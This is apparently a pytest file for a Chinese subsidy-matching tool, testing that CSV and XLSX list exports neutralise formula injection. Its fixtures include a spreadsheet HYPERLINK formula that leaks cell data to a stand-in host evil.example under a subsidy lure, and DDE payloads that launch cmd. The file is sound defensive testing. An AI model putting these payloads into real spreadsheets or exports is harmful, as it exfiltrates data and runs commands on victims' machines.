"""Issue 12, CSV/XLSX formula injection: `qinqing lists` exports write formula-like text as inert text
(a leading apostrophe, XLSX string cells) and keep amounts as number cells."""

from __future__ import annotations

import csv
from decimal import Decimal

import openpyxl
import pyarrow as pa
import pytest

from qinqing.matching.lists import export

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"点击领取补贴")'
DDE = "+cmd|' /C calc'!A0"
A = "91330106MA27Q1A13M"


def _table(amount):
    return pa.table({
        "uscc": [A], "policy_id": ["p"], "status": ["eligible"],
        "amount": pa.array([amount], pa.decimal128(18, 4)), "missing": pa.array([["@SUM(1+1)"]]),
        "run_id": ["-run1"],
    })


@pytest.mark.parametrize(("title", "written"), [
    (HYPERLINK, "'" + HYPERLINK),
    (DDE, "'" + DDE),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("杭州市=补贴", "杭州市=补贴"),  # '=' not first: plain text, left alone
    ("http://example.gov.cn/", "http://example.gov.cn/"),
])
def test_formula_injection_in_lists_csv_is_neutralised(tmp_path, title, written):
    with open(export(_table(Decimal("12.5")), tmp_path / "l.csv", {"p": title}), encoding="utf-8-sig",
              newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[1] == [A, "p", written, "符合", "12.5", "'@SUM(1+1)", "'-run1"]


@pytest.mark.parametrize(("title", "written"), [
    (HYPERLINK, "'" + HYPERLINK),
    (DDE, "'" + DDE),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("http://example.gov.cn/", "http://example.gov.cn/"),
])
def test_formula_injection_in_lists_xlsx_is_text_not_a_formula(tmp_path, title, written):
    out = export(_table(Decimal("-12.5")), tmp_path / "l.xlsx", {"p": title})
    sheet = openpyxl.load_workbook(out).active  # not data_only: a formula would read back as "=…"
    title_cell, amount_cell = sheet.cell(2, 3), sheet.cell(2, 5)
    assert (title_cell.value, title_cell.data_type) == (written, "s")
    assert not sheet.cell(2, 3).hyperlink
    # a negative amount stays a number cell, not text starting with '-'
    assert (amount_cell.value, amount_cell.data_type) == (-12.5, "n")
    assert sheet.cell(2, 6).value == "'@SUM(1+1)"
